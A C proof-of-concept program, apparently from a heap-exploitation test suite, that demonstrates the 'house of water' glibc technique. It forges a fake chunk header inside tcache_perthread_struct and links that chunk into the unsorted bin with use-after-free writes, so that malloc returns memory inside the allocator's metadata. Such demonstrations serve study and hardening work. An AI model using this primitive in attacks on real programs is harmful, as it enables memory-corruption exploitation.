/* Technique: house of water (how2heap house_of_water), with the heap
   address computed at run time instead of guessed by partial
   overwrites.

   Goal: malloc returns a chosen address -- a block inside glibc's own
   tcache_perthread_struct (its entries array), giving the program
   control of the allocator's tcache metadata (and leaving a libc
   pointer, the unsorted bin's address, in it on the way).

   How: freeing one 0x3e0 and one 0x3f0 chunk makes the tcache counts
   for those bins read, as one 64-bit word, 0x10001: a fake chunk F of
   size 0x10000 inside the tcache struct, whose fd and bk are the 0x20
   and 0x30 tcache entries.  Two fake small chunks are freed into those
   two tcache bins so that F->fd = chunk "end" and F->bk = chunk
   "start".  start, middle, end (0x90 chunks, tcache bin full) are freed
   into the unsorted bin, and use-after-free writes set start->fd and
   end->bk to F, replacing middle with F in the list.  A footer 0x10000
   bytes after F makes F pass the unsorted bin's size checks.
   malloc (0x288) sorts the unsorted bin (F goes into a large bin) and
   then splits F: it returns F's user memory, inside the tcache
   struct.  */
#include "attack.h"

int
main (void)
{
  attack_init ("house_of_water: tcache counts forge a 0x10001 chunk header in the tcache struct, linked into the unsorted bin");
  void *first = malloc (0x18);
  char *h = find_tcache_struct ();
  say ("first %p tcache struct chunk %p", first, h);
  if (!h)
    no_effect ("no tcache_perthread_struct in the heap");
  char *fake = h + 0x80;	/* F: its size word is counts[60..63] */

  /* Step 1: the fake size 0x10001.  */
  void *lsb = malloc (0x3d8);
  void *msb = malloc (0x3e8);
  free (lsb);
  free (msb);

  /* Step 2: the chunks of the unsorted list, with guards.  */
  void *x[7];
  for (int i = 0; i < 7; i++)
    x[i] = malloc (0x88);
  size_t *start = malloc (0x88);
  void *g1 = malloc (0x18);
  size_t *middle = malloc (0x88);
  void *g2 = malloc (0x18);
  size_t *end = malloc (0x88);
  void *g3 = malloc (0x18);

  /* Step 3: the footer of F, 0x10000 bytes after it.  */
  uintptr_t top = (uintptr_t) CHUNK (g3) + 0x20;
  uintptr_t footer_chunk = (uintptr_t) fake + 0x10000 - 0x10;
  if (footer_chunk < top + 0x420)
    no_effect ("the heap layout is not the expected one");
  void *filler = malloc (footer_chunk - top - 8);
  size_t *footer = malloc (0x38);
  say ("start %p middle %p end %p filler %p footer %p (want %#lx)",
       start, middle, end, filler, footer, (unsigned long) (fake + 0x10000));
  footer[0] = 0x10000;		/* prev_size of the chunk after F */
  footer[1] = 0x20;		/* its size, PREV_INUSE clear */

  for (int i = 0; i < 7; i++)
    free (x[i]);		/* tcache 0x90 full */

  /* Step 4: F->bk = start (0x30 tcache entry), F->fd = end (0x20 entry):
     free fake small chunks whose user pointer is start's / end's chunk
     header, then restore the size words the tcache key overwrote.  */
  *(size_t *) ((char *) start - 0x18) = 0x31;
  free ((char *) start - 0x10);
  *(size_t *) ((char *) start - 0x8) = 0x91;
  *(size_t *) ((char *) end - 0x18) = 0x21;
  free ((char *) end - 0x10);
  *(size_t *) ((char *) end - 0x8) = 0x91;

  /* Step 5: the unsorted list start -> middle -> end, then F instead
     of middle.  */
  free (end);
  free (middle);
  free (start);
  start[0] = (size_t) fake;	/* use after free: start->fd */
  end[1] = (size_t) fake;	/* use after free: end->bk */

  void *p = malloc (0x288);
  say ("malloc (0x288) = %p", p);
  if (p && overlaps (p, 0x288, h, TCACHE_CHUNK_SIZE))
    reached ("malloc returned %p, inside the tcache_perthread_struct at %p", p, h);
  no_effect ("malloc returned %p, outside the tcache struct at %p", p, h);
}
